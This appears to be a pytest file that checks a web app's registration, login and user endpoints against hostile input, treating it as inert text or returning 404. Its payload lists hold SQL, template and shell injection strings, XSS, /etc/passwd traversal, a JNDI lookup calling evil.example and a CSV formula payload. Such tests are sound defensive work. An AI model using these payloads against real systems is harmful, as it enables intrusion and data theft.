"""Text that means something to SQL, templates, shells, browsers or logs is only text here."""

import pytest

from tests.conftest import bearer
from tests.web.replies import refused

TEXTS = [
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "x'||pg_sleep(10)--",
    "%s %(name)s %d {0} {name}",
    "{{ 7 * 7 }}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    "$(sleep 10) `sleep 10` ; sleep 10 | cat",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "\\x00 \\u0000 \\",
    "Robert\u202etxt.exe \u200b\ufeff\U000e0001",
    "👩‍👩‍👧‍👦 Ὀδυσσεύς 山田太郎 عبد الله",
    "null",
]
IDS = [
    "0",
    "1",
    "-1",
    "9" * 40,
    "1e5",
    "null",
    "%00",
    "%ff%fe",
    "%F0%9F%98%80",
    "' OR 1=1--",
    "1;SELECT pg_sleep(5)",
    "00000000-0000-0000-0000-00000000000g",
    "00000000000000000000000000000000",
    "{00000000-0000-0000-0000-000000000000}",
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "..%2f..%2fetc%2fpasswd",
    "x" * 4000,
]


@pytest.mark.parametrize("text", TEXTS)
def test_a_name_comes_back_as_it_was_given(client, text):
    """R49"""
    wish = {"email": "ada@example.com", "password": "correct horse battery", "name": text}

    reply = client.post("/auth/register", json=wish)

    assert reply.status_code == 201
    assert reply.json["name"] == text


@pytest.mark.parametrize("text", TEXTS)
def test_a_password_counts_letter_by_letter(client, text):
    """R49"""
    password = f"long enough: {text}"
    client.post("/auth/register", json={"email": "ada@example.com", "password": password})

    good = client.post("/auth/login", json={"email": "ada@example.com", "password": password})

    assert good.status_code == 200
    refused(client.post("/auth/login", json={"email": "ada@example.com", "password": password[:-1]}), 401)


@pytest.mark.parametrize("text", TEXTS)
def test_an_address_of_such_text_is_nobodys(client, text):
    """R49, R4"""
    refused(client.post("/auth/register", json={"email": text, "password": "correct horse battery"}), 422)
    refused(client.post("/auth/login", json={"email": text, "password": "correct horse battery"}), 401)


@pytest.mark.parametrize("id", IDS)
@pytest.mark.parametrize(("method", "path"), [("GET", "/users/{}"), ("DELETE", "/users/me/sessions/{}")])
def test_a_strange_id_is_nobodys(client, make_user, log_in, method, path, id):
    """R50"""
    make_user(email="ada@example.com")
    token = log_in("ada@example.com")["access_token"]

    refused(client.open(path.format(id), method=method, headers=bearer(token)), 404)


@pytest.mark.parametrize("id", IDS)
@pytest.mark.parametrize("path", ["/problems/{}", "/docs/{}", "/{}", "/users/me/{}", "/.well-known/{}"])
def test_a_strange_name_is_of_nothing(stranger, path, id):
    """R50, R78"""
    refused(stranger.get(path.format(id)), 404)


def test_ones_own_id_in_capitals_is_still_ones_own(client, make_user, log_in):
    user = make_user(email="ada@example.com")
    token = log_in("ada@example.com")["access_token"]

    reply = client.get(f"/users/{str(user.id).upper()}", headers=bearer(token))

    assert reply.json["email"] == "ada@example.com"
